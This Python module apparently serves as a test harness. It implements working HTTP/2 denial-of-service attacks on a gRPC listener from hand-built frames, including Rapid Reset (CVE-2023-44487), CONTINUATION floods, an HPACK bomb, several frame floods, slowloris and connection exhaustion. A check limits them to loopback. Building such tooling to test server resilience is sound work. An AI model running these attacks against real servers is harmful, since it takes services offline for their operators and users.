"""Raw HTTP/2 attacks against a gRPC listener on loopback, from hand-built frames.

Every attack takes (host, port, seconds) and stops by itself: at the deadline or when its own
count is reached, whichever comes first. Each returns a dict of what it did (frames, streams,
connections), so a test can check that the attack really ran. Only loopback addresses are
accepted. The frames follow RFC 9113; HPACK blocks are built by hand (RFC 7541) so that the
attacks can send what no well-behaved encoder would.
"""
import ipaddress
import os
import selectors
import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 2, 3, 4, 6, 7, 8, 9)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8
METHOD = "/auth.AuthService/ValidateToken"


# The attacker's own address (a loopback address other than the legitimate clients').
SOURCE = os.environ.get("WARDEN_ABUSE_SOURCE", "127.0.0.2")


def _check_loopback(host):
    if not ipaddress.ip_address(host).is_loopback or not ipaddress.ip_address(SOURCE).is_loopback:
        raise ValueError("attacks only run on loopback, not %s from %s" % (host, SOURCE))


def _socket(timeout):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(timeout)
    sock.bind((SOURCE, 0))
    return sock


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream & 0x7FFFFFFF) + payload


def hpack_int(value, prefix_bits, first_byte_flags=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = [first_byte_flags | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(data):
    return hpack_int(len(data), 7) + data


def literal(name, value, indexing=False):
    """A literal header with a new name, without indexing (or with incremental indexing)."""
    return (b"\x40" if indexing else b"\x00") + hpack_string(name) + hpack_string(value)


def request_block(authority, path=METHOD, extra=b""):
    """A gRPC request's header block: static-table :method POST and :scheme http, the rest as
    literals without indexing, so the same bytes can be sent again and again."""
    return (b"\x83\x86" + b"\x04" + hpack_string(path.encode()) + b"\x01" +
            hpack_string(authority.encode()) + b"\x0f\x10" + hpack_string(b"application/grpc") +
            literal(b"te", b"trailers") + extra)


GRPC_EMPTY_MESSAGE = b"\x00\x00\x00\x00\x00"


class Drainer:
    """Reads and throws away what the server sends on every registered socket (so its writes
    never block on us), in one thread, until stopped."""

    def __init__(self):
        self.selector = selectors.DefaultSelector()
        self.lock = threading.Lock()
        self.closed = 0
        self.stopping = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def add(self, sock):
        with self.lock:
            try:
                self.selector.register(sock, selectors.EVENT_READ)
            except (ValueError, KeyError, OSError):
                pass

    def remove(self, sock):
        with self.lock:
            try:
                self.selector.unregister(sock)
            except (ValueError, KeyError, OSError):
                pass

    def _run(self):
        while not self.stopping:
            with self.lock:
                has = bool(self.selector.get_map())
            if not has:
                time.sleep(0.01)
                continue
            try:
                events = self.selector.select(timeout=0.05)
            except (OSError, ValueError):
                continue
            for key, _ in events:
                sock = key.fileobj
                try:
                    data = sock.recv(65536)
                except (BlockingIOError, InterruptedError):
                    continue
                except OSError:
                    data = b""
                if not data:
                    self.remove(sock)
                    self.closed += 1

    def stop(self):
        self.stopping = True
        self.thread.join(timeout=2)


def connect(host, port, preface=True, timeout=2.0):
    """A TCP connection to the target with the client preface and an empty SETTINGS sent."""
    _check_loopback(host)
    sock = _socket(timeout)
    sock.connect((host, port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if preface:
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0) +
                     frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
    return sock


def _send_until(host, port, seconds, build_batch, connections=1, max_frames=50_000_000):
    """Opens `connections` connections and keeps sending build_batch(state) on each until the
    deadline, reconnecting when the server closes one. Returns counts."""
    deadline = time.monotonic() + seconds
    drainer = Drainer()
    stats = {"batches": 0, "connections": 0, "errors": 0}
    lock = threading.Lock()

    def worker():
        state = {"stream": 1}
        sock = None
        while time.monotonic() < deadline and stats["batches"] * 1 < max_frames:
            try:
                if sock is None:
                    sock = connect(host, port)
                    state["stream"] = 1
                    drainer.add(sock)
                    with lock:
                        stats["connections"] += 1
                batch = build_batch(state)
                if batch is None:
                    sock.close()
                    sock = None
                    continue
                sock.sendall(batch)
                with lock:
                    stats["batches"] += 1
            except OSError:
                with lock:
                    stats["errors"] += 1
                if sock is not None:
                    drainer.remove(sock)
                    sock.close()
                sock = None
                time.sleep(0.01)  # the server closed us: reconnect, but do not spin
        if sock is not None:
            drainer.remove(sock)
            sock.close()

    threads = [threading.Thread(target=worker, daemon=True) for _ in range(connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=seconds + 10)
    drainer.stop()
    return stats


def rapid_reset(host, port, seconds, with_data=False, connections=4, batch=500):
    """CVE-2023-44487: open a stream and reset it at once, as fast as the socket takes it."""
    block = request_block("%s:%d" % (host, port))
    counted = {"streams": 0}

    def build(state):
        if state["stream"] > 0x7FFFFF00 - 2 * batch:
            return None  # stream ids exhausted: a new connection
        out = bytearray()
        for _ in range(batch):
            sid = state["stream"]
            if with_data:
                out += frame(HEADERS, END_HEADERS, sid, block)
                out += frame(DATA, END_STREAM, sid, GRPC_EMPTY_MESSAGE)
            else:
                out += frame(HEADERS, END_HEADERS | END_STREAM, sid, block)
            out += frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
            state["stream"] += 2
        counted["streams"] += batch
        return bytes(out)

    stats = _send_until(host, port, seconds, build, connections=connections)
    stats["streams"] = counted["streams"]
    return stats


def rapid_reset_data(host, port, seconds):
    return rapid_reset(host, port, seconds, with_data=True)


def idle_streams(host, port, seconds, connections=1000, streams=256):
    """Many connections, each opening `streams` streams that never send their message."""
    deadline = time.monotonic() + seconds
    block = request_block("%s:%d" % (host, port))
    drainer = Drainer()
    socks = []
    opened = 0
    for _ in range(connections):
        if time.monotonic() >= deadline:
            break
        try:
            sock = connect(host, port, timeout=1.0)
            payload = b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) for i in range(streams))
            sock.sendall(payload)
            drainer.add(sock)
            socks.append(sock)
            opened += 1
        except OSError:
            pass
    while time.monotonic() < deadline:
        time.sleep(0.05)
    for sock in socks:
        drainer.remove(sock)
        sock.close()
    drainer.stop()
    return {"connections": opened, "streams": opened * streams, "closed_by_server": drainer.closed}


def _continuation_stream(host, port, deadline, total_bytes, frame_bytes, end):
    """One header block: HEADERS starting a literal whose value is `total_bytes` long, then
    CONTINUATION frames of `frame_bytes` carrying the value; END_HEADERS only if `end`."""
    sock = connect(host, port)
    head = request_block("%s:%d" % (host, port)) + b"\x00" + hpack_string(b"x-big") + hpack_int(
        total_bytes, 7)
    sock.sendall(frame(HEADERS, 0, 1, head))
    sent = 0
    chunk = b"a" * frame_bytes
    batch = b"".join(frame(CONTINUATION, 0, 1, chunk) for _ in range(64))
    while sent + 64 * frame_bytes < total_bytes and time.monotonic() < deadline:
        sock.sendall(batch)
        sent += 64 * frame_bytes
    if end and time.monotonic() < deadline:
        sock.sendall(frame(CONTINUATION, END_HEADERS, 1, b"a" * (total_bytes - sent)))
    return sock, sent


def continuation_flood(host, port, seconds, blocks=32, block_bytes=64 << 20, frame_bytes=1024):
    """32 header blocks of 64 MiB in 1 KiB CONTINUATION frames, on 32 connections, never ended."""
    deadline = time.monotonic() + seconds
    results = []
    lock = threading.Lock()

    def one():
        try:
            sock, sent = _continuation_stream(host, port, deadline, block_bytes, frame_bytes, False)
            with lock:
                results.append(sent)
            while time.monotonic() < deadline:
                time.sleep(0.05)
            sock.close()
        except OSError:
            with lock:
                results.append(-1)

    threads = [threading.Thread(target=one, daemon=True) for _ in range(blocks)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=seconds + 10)
    return {"blocks": len(results), "bytes": sum(r for r in results if r > 0),
            "cut_off": sum(1 for r in results if r < 0)}


def continuation_big_value(host, port, seconds, value_bytes=64 << 20):
    """One header value of 64 MiB in 16 KiB CONTINUATION frames, then END_HEADERS."""
    deadline = time.monotonic() + seconds
    sent_total = 0
    rounds = 0
    while time.monotonic() < deadline:
        try:
            sock, sent = _continuation_stream(host, port, deadline, value_bytes, 16384, True)
            sent_total += sent
            rounds += 1
            sock.close()
        except OSError:
            rounds += 1
            time.sleep(0.01)
    return {"header_blocks": rounds, "bytes": sent_total}


def hpack_bomb(host, port, seconds, entry_bytes=4000, refs_per_request=6000, frame_bytes=1024):
    """A 4 KB entry put in the HPACK dynamic table, then requests that reference it 6000 times
    (24 MB decoded from 6 KB on the wire), split over CONTINUATION frames."""
    deadline = time.monotonic() + seconds
    authority = "%s:%d" % (host, port)
    drainer = Drainer()
    requests = 0
    connections = 0
    while time.monotonic() < deadline:
        try:
            sock = connect(host, port)
            drainer.add(sock)
            connections += 1
            first = request_block(authority, extra=literal(b"x-bomb", b"b" * entry_bytes, True))
            sock.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 1, first))
            sid = 3
            refs = b"\xbe" * refs_per_request  # indexed field 62: the newest dynamic entry
            while time.monotonic() < deadline and sid < 0x7FFFFF00:
                block = request_block(authority) + refs
                out = bytearray(frame(HEADERS, 0, sid, block[:frame_bytes]))
                rest = block[frame_bytes:]
                while rest:
                    piece, rest = rest[:frame_bytes], rest[frame_bytes:]
                    out += frame(CONTINUATION, 0 if rest else END_HEADERS, sid, piece)
                sock.sendall(bytes(out))
                requests += 1
                sid += 2
            drainer.remove(sock)
            sock.close()
        except OSError:
            time.sleep(0.01)
    drainer.stop()
    return {"requests": requests, "connections": connections,
            "decoded_bytes": requests * refs_per_request * (entry_bytes + len("x-bomb") + 32)}


def ping_flood(host, port, seconds, connections=4):
    payload = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(1000))
    stats = _send_until(host, port, seconds, lambda state: payload, connections=connections)
    stats["pings"] = stats["batches"] * 1000
    return stats


def _flood(payload_for, connections=4):
    def attack(host, port, seconds):
        authority = "%s:%d" % (host, port)

        def build(state):
            if state["stream"] == 1:
                state["stream"] = 3
                # An open stream for the frames that need one.
                return frame(HEADERS, END_HEADERS, 1, request_block(authority)) + payload_for(1)
            return payload_for(1)

        stats = _send_until(host, port, seconds, build, connections=connections)
        stats["frames"] = stats["batches"] * 1000
        return stats
    return attack


settings_flood = _flood(
    lambda sid: frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65535)) * 1000)
window_update_flood = _flood(
    lambda sid: frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", 1)) * 1000)
empty_data_flood = _flood(lambda sid: frame(DATA, 0, sid) * 1000)
priority_flood = _flood(lambda sid: b"".join(
    frame(PRIORITY, 0, 2 * i + 101, struct.pack(">IB", 1, 16)) for i in range(1000)))


def hpack_table_churn(host, port, seconds):
    """Requests that each add new entries to the decoder's dynamic table (evicting the last)."""
    authority = "%s:%d" % (host, port)

    def build(state):
        out = bytearray()
        for _ in range(100):
            sid = state["stream"]
            if sid > 0x7FFFFF00:
                return None
            extra = b"".join(literal(b"x-%d-%d" % (sid, i), b"v" * 200, True) for i in range(8))
            out += frame(HEADERS, END_HEADERS | END_STREAM, sid, request_block(authority,
                                                                              extra=extra))
            out += frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
            state["stream"] += 2
        return bytes(out)

    stats = _send_until(host, port, seconds, build, connections=1)
    stats["requests"] = stats["batches"] * 100
    return stats


def slowloris(host, port, seconds, connections=200):
    """Connections that send their headers one byte at a time, slowly."""
    deadline = time.monotonic() + seconds
    block = frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block("%s:%d" % (host, port)))
    socks = []
    for _ in range(connections):
        try:
            socks.append([connect(host, port, preface=False, timeout=1.0), 0])
        except OSError:
            pass
    message = PREFACE + frame(SETTINGS, 0, 0) + block
    sent = 0
    while time.monotonic() < deadline and socks:
        for entry in list(socks):
            sock, offset = entry
            if offset >= len(message):
                continue
            try:
                sock.send(message[offset:offset + 1])
                entry[1] += 1
                sent += 1
            except OSError:
                socks.remove(entry)
        time.sleep(0.2)
    for sock, _ in socks:
        sock.close()
    return {"connections": connections, "bytes": sent, "still_open": len(socks)}


def connection_churn(host, port, seconds, mode="close", threads=4, max_connections=200_000):
    """Connects and disconnects as fast as possible: `close`, `rst` (SO_LINGER 0) or `preface`
    (sends the client preface and SETTINGS first)."""
    _check_loopback(host)
    deadline = time.monotonic() + seconds
    counts = {"connections": 0, "errors": 0}
    lock = threading.Lock()

    def worker():
        while time.monotonic() < deadline and counts["connections"] < max_connections:
            try:
                sock = _socket(1.0)
                sock.connect((host, port))
                if mode == "preface":
                    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
                if mode == "rst":
                    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                sock.close()
                with lock:
                    counts["connections"] += 1
            except OSError:
                with lock:
                    counts["errors"] += 1
                time.sleep(0.001)

    workers = [threading.Thread(target=worker, daemon=True) for _ in range(threads)]
    for t in workers:
        t.start()
    for t in workers:
        t.join(timeout=seconds + 10)
    return counts


def churn_rst(host, port, seconds):
    return connection_churn(host, port, seconds, mode="rst")


def churn_preface(host, port, seconds):
    return connection_churn(host, port, seconds, mode="preface")


def idle_connections(host, port, seconds, connections=1100):
    """Opens 1100 connections (preface + SETTINGS) and holds them, idle, to the deadline."""
    deadline = time.monotonic() + seconds
    drainer = Drainer()
    socks = []
    for _ in range(connections):
        if time.monotonic() >= deadline:
            break
        try:
            sock = connect(host, port, timeout=1.0)
            drainer.add(sock)
            socks.append(sock)
        except OSError:
            pass
    opened = len(socks)
    while time.monotonic() < deadline:
        time.sleep(0.05)
    for sock in socks:
        drainer.remove(sock)
        sock.close()
    drainer.stop()
    return {"connections": opened, "closed_by_server": drainer.closed}


ATTACKS = {
    "rapid_reset": rapid_reset,
    "rapid_reset_data": rapid_reset_data,
    "idle_streams": idle_streams,
    "continuation_flood": continuation_flood,
    "continuation_big_value": continuation_big_value,
    "hpack_bomb": hpack_bomb,
    "ping_flood": ping_flood,
    "connection_churn": connection_churn,
    "churn_rst": churn_rst,
    "churn_preface": churn_preface,
    "idle_connections": idle_connections,
    "settings_flood": settings_flood,
    "window_update_flood": window_update_flood,
    "empty_data_flood": empty_data_flood,
    "priority_flood": priority_flood,
    "hpack_table_churn": hpack_table_churn,
    "slowloris": slowloris,
}


if __name__ == "__main__":
    import json
    import sys
    # python3 h2_attacks.py ATTACK HOST PORT SECONDS: runs one attack, prints its counts.
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    name, host, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    print(json.dumps(ATTACKS[name](host, port, seconds)))
